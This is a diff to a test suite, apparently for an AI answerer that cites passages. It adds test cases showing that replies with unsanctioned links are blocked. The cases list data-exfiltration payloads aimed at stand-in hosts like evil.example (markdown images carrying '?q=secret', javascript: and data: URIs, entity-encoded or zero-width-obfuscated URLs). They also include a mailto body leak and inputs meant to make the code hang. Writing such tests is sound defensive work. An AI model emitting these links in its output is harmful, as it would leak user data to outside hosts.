@@ -86,6 +86,41 @@ describe.each(Object.entries(ways))('%s', (_, ask) => {
     ['a link of its own', 'It is so [1]: https://evil.example/?q=secret'],
     ['a picture', 'It is so [1] ![x](//evil.example/secret.png)'],
     ['a page', 'It is so [1], www.evil.example'],
+    ...[
+      '![x]( //evil/s.png?q=secret)',
+      '![x](\n//evil/s.png)',
+      '![x](secret.png)',
+      '[x]( javascript:alert(1))',
+      '[x](\tdata:text/html,x)',
+      '![x][r]\n\n[r]: //evil/s.png',
+      '[r]: /\\evil',
+      '[r]: <https&colon;//evil>',
+      '<img src=https:/evil/s.png>',
+      '<a href="&#47;&#47;evil">x</a>',
+      '_https://evil/?q=secret_',
+      '_www.evil.example_',
+      'mailto:x@evil.example?body=secret',
+      '<javascript:alert(1)>',
+      'ht\u200btps://evil/?q=secret',
+      'https://acme.example/plan?q=secret',
+      'https://acme.example/pla',
+    ].map((link): [string, string] => [
+      `a link that it was not given, ${JSON.stringify(link)}`,
+      `It is so [1] ${link}`,
+    ]),
+    ...[
+      '[\n99]',
+      '[1,\n99]',
+      `[${' '.repeat(201)}99]`,
+      '[12345678901]',
+      '[7-9]',
+      '[1; 8]',
+      '[^7]',
+      '【7】',
+      '［7］',
+      '[７]',
+      '[\u200b7]',
+    ].map((odd): [string, string] => [`${JSON.stringify(odd)} in its own way`, `It is so [1] ${odd}`]),
     ['nothing', 'The launch is in March.'],
     ['nothing, and has more than the sentence', `${noAnswer} But it may be March.`],
     ['nothing, and says nothing', ''],
@@ -116,6 +151,30 @@ describe.each(Object.entries(ways))('%s', (_, ask) => {
   });
 });
 
+it.each([
+  ['brackets', `${'['.repeat(20_000)} x`],
+  ['spaces', `${' '.repeat(20_000)}x`],
+  ['a word', 'x'.repeat(3_900)],
+  ['digits', `[${'1 '.repeat(10_000)}`],
+  ['schemes', 'a+'.repeat(1_900)],
+])('is not kept busy by %s', async (_, text) => {
+  for (const ask of Object.values(ways)) {
+    const began = performance.now();
+    model.replies.push({ text });
+    await ask().catch(() => {});
+    expect(performance.now() - began).toBeLessThan(1_500);
+  }
+});
+
+it('says of the sentence with a citation that there is no answer', async () => {
+  model.replies.push({ text: `${noAnswer} [1]` });
+  expect(await answerer.answer(question, passages)).toEqual({
+    answer: noAnswer,
+    citations: [],
+    complete: true,
+  });
+});
+
 it('stops a stream before what it may not say', async () => {
   model.replies.push({ text: 'It is so [1]. And the other company says [7] so.' });
   let text = '';
@@ -132,6 +191,19 @@ it('is ended by its signal', async () => {
   await expect(answerer.answer(question, passages, { signal })).rejects.toMatchObject({
     code: 'TIMEOUT',
   });
+});
+
+it('is a time-out, and not the model’s failure, if it is aborted in the middle', async () => {
+  const stop = new AbortController();
+  model.replies.push({ text: 'It is so [1], '.repeat(20), pause: 20 });
+  const pieces = answerer.stream(question, passages, { signal: stop.signal });
+  await pieces.next();
+  stop.abort();
+  await expect(
+    (async () => {
+      for (;;) if ((await pieces.next()).done) return;
+    })(),
+  ).rejects.toMatchObject({ code: 'TIMEOUT' });
 });
 
 describe('the prompt', () => {
@@ -160,7 +232,7 @@ describe('the prompt', () => {
     const small = openaiAnswerer({
       client,
       model: 'stand-in',
-      contextTokens: 100,
+      contextTokens: 200,
       countTokens: (text) => text.length,
     });
     const ask = async (...contents: string[]) => {
@@ -168,12 +240,10 @@ describe('the prompt', () => {
       const lines = messages()[1]?.split('\n').slice(1, -1) ?? [];
       return lines.map((line) => JSON.parse(line).text);
     };
-    expect(await ask('a'.repeat(60), 'b'.repeat(41), 'c'.repeat(40))).toEqual([
-      'a'.repeat(60),
-      'c'.repeat(40),
-    ]);
+    const [a, b, c] = ['a'.repeat(100), 'b'.repeat(60), 'c'.repeat(50)] as const;
+    expect(await ask(a, b, c)).toEqual([a, c]);
     const [cut] = await ask('😀'.repeat(200));
-    expect(cut).toMatch(/^(😀){40,50}$/u);
+    expect(cut).toMatch(/^(😀){80,90}$/u);
   });
 });
 
